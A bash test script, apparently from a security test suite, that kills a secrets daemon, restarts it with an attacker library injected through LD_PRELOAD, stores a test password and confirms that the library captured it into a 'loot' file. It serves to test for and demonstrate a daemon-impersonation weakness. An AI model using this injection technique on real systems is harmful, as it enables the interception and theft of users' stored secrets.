#!/usr/bin/env bash
# Starts securityd with a library of the attacker in it, which records all received messages
# expected: succeeds: end the daemons and stand in their place, with a program of its own or with securityd and a library in it
set -euo pipefail
# shellcheck source=Tests/attacks/common.sh
source "$(dirname "${BASH_SOURCE[0]}")/common.sh"

start_daemon
user kill -KILL "$(daemon_pid)"
await is_silent
# Started as by the client library; otherwise securityd would start itself again without the attacker's library.
user LD_PRELOAD="$ATTACK_PREFIX/bin/tapped.so" GLIBC_TUNABLES=glibc.malloc.tcache_count=0:glibc.malloc.perturb=165 \
    "$daemon" --background
answer=$(probe '{"call":"add","query":{"class":"genp","svce":"mail","acct":"ada","v_Data":{"data":"czNjcmV0"}}}')
control "the daemon works" contains "$answer" '"status":0'
grep -qs s3cret "$home/data/loot" || fails "the library gets nothing"
succeeds "$(cat "$home/data/loot")"
